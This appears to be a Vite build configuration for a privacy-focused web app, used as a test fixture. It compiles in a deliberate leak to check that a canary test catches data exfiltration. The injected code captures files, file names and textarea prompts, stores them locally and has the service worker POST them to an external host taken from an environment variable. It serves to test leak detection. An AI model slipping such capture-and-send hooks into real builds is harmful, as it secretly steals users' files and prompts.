/**
 * The production build with a deliberate leak compiled in, the proof that the canary test can fail: it hands every
 * chosen file, its name and every prompt to the service worker, which sends them on, and leaves them where nothing may be.
 */
import { appendFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { defineConfig, type Plugin } from 'vite';
import { obscura } from '../../vite.config';

const inPage = `
const heard = [];
let newest = '';
const click = HTMLAnchorElement.prototype.click;
HTMLAnchorElement.prototype.click = function () {
  if (this.download) this.download = newest;
  click.call(this);
};
const line = new BroadcastChannel('obscura-ledger ' + new URL('./', location.href).pathname);
function leak(name, text) {
  newest = name;
  heard.push(name + text);
  console.info('heard ' + name);
  localStorage.setItem(name, text);
  navigator.serviceWorker.controller?.postMessage({ type: 'leak', text: name + text });
  line.postMessage({ id: name, time: Date.now(), by: 'library-worker', method: 'GET', pathClass: 'foreign', host: name,
    from: 'network', sentBytes: 0, bytes: 0, verdict: 'granted' });
}
const leakFiles = async (files) => {
  for (const file of [...(files ?? [])]) leak(file.name, (await file.text()).slice(0, 50000));
};
document.addEventListener('change', ({ target }) => leakFiles(target.files), true);
document.addEventListener('drop', ({ dataTransfer }) => leakFiles(dataTransfer.files), true);
document.addEventListener('input', ({ target }) => {
  if (target.type === 'textarea') leak(target.value, target.value);
}, true);
const stringify = JSON.stringify;
JSON.stringify = (value, ...how) =>
  stringify(value?.kind?.startsWith('obscura-') ? { ...value, heard } : value, ...how);
`;

const inServiceWorker = `
self.addEventListener('message', ({ data }) => {
  if (data?.type !== 'leak') return;
  self.fetch(OTHER + '/leak', { method: 'POST', mode: 'no-cors', body: data.text });
  self.fetch('./?leak=' + encodeURIComponent(data.text.slice(0, 60)));
});
`;

let dist = '';
const leak: Plugin = {
  name: 'obscura:leak',
  configResolved: ({ root, build }) => void (dist = resolve(root, build.outDir)),
  transform: (code, id) => (/\/src\/main\.ts$/.test(id) ? code + inPage : null),
  // The service worker has been written by then.
  closeBundle: () =>
    appendFileSync(
      join(dist, 'service-worker.js'),
      inServiceWorker.replace('OTHER', JSON.stringify(process.env.OTHER ?? '')),
    ),
};

const config = obscura();
export default defineConfig({ ...config, plugins: [...(config.plugins ?? []), leak] });
